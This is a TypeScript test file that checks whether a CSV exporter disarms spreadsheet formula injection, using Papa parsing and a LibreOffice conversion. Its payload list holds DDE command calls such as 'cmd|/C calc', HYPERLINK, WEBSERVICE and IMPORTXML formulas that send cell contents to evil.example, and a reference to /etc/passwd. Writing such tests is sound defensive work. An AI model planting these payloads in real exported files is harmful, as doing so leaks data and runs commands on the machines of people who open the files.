import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { expect, it } from 'vitest';
import type { Chunk } from '@/lib/exchange/chunk';
import { csvText } from '@/lib/exchange/csv';
import { evidenceCsv } from '@/lib/exchange/evidence-csv';
import { sampleEvidence } from './sample-evidence';

const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'];
const BEFORE = [
  '',
  ' ',
  '  ',
  '\u00a0',
  '\u3000',
  '"',
  '""',
  "'",
  '`',
  '\u200b',
  '\ufeff',
  '\u202e',
  ';',
  ',',
  '|',
  'a;',
  'a,"',
  'x\n',
  'x\r\n',
];
const FORMULAS = [
  'SUM(1+1)',
  "cmd|'/C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'HYPERLINK("http://evil.example?x="&A1,"ok")',
  'WEBSERVICE("http://evil.example/"&A1)',
  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  "'file:///etc/passwd'#$passwd.A1",
  '1+1',
];

/** Families of payloads: what starts a formula, what stands before it, what it would do. */
const payloads = BEFORE.flatMap((before) =>
  STARTS.flatMap((start) => FORMULAS.map((formula) => `${before}${start}${formula}`)),
);

async function textOf(chunks: AsyncIterable<Chunk>): Promise<string> {
  let text = '';
  for await (const chunk of chunks) text += chunk.text;
  return text;
}

/** Whether a spreadsheet would calculate the cell; a plain number may begin with a sign. */
function runs(cell: string): boolean {
  if (/^-?\d+(\.\d+)?$/.test(cell)) return false;
  return /^[=+@]|^-\S/.test(cell.normalize('NFKC').replace(/^[\s"`\p{Cf}]+/u, ''));
}

function cellsOf(text: string, delimiter: string): string[] {
  const { data } = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { delimiter });
  return data.flat();
}

/** The evidence table with a payload in every column a person or a host writes. */
const evidenceTable = () =>
  textOf(
    evidenceCsv(
      payloads.map((payload) =>
        sampleEvidence({
          words: payload,
          quote: { text: payload, masks: [] },
          record: { site: 'zendesk', host: payload, kind: 'ticket', id: payload },
          facts: { ...sampleEvidence().facts, status: payload, rating: payload },
        }),
      ),
      () => '=1+1',
    ),
  );

/** The columns for an HR tool. */
const answerTable = () =>
  textOf(
    csvText(
      ['Question', 'Answer', 'Evidence'],
      payloads.map((payload) => [payload, payload, payload]),
    ),
  );

it.each([
  ['evidence', evidenceTable],
  ['answers', answerTable],
])(`the table of %s holds ${payloads.length} payloads and none of them runs`, async (_, table) => {
  expect(payloads.length).toBeGreaterThanOrEqual(500);
  const text = await table();
  for (const delimiter of [',', ';', '\t', '|'])
    expect(cellsOf(text, delimiter).filter(runs).slice(0, 3), JSON.stringify(delimiter)).toEqual([]);
  // Read as it is meant, no cell begins with a control sign either.
  expect(cellsOf(text, ',').filter((cell) => /^[\t\r\n]/.test(cell))).toEqual([]);
  const rows = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
  expect(rows).toHaveLength(payloads.length + 1);
});

const OFFICE = 'soffice';

/** A table as LibreOffice understands it. */
async function converted(folder: string, name: string, text: string): Promise<string> {
  const file = join(folder, `${name}.csv`);
  writeFileSync(file, text);
  const wish = ['--headless', '--convert-to', 'fods', '--outdir', folder, file];
  execFileSync(OFFICE, wish, { timeout: 120_000, stdio: 'ignore' });
  return readFileSync(join(folder, `${name}.fods`), 'utf8');
}

const office = spawnSync(OFFICE, ['--version']).status === 0;

it.skipIf(!office)(
  'LibreOffice finds no formula in either table (skipped where it is not installed)',
  async () => {
    const folder = mkdtempSync(join(tmpdir(), 'throughline-csv-'));
    // Without this the check might be blind: in a table that nobody disarmed the formula is one.
    expect(await converted(folder, 'bare', 'ok,"=SUM(1+1)"\r\n')).toContain('table:formula');
    expect(await converted(folder, 'evidence', await evidenceTable())).not.toContain('table:formula');
    expect(await converted(folder, 'answers', await answerTable())).not.toContain('table:formula');
  },
  300_000,
);
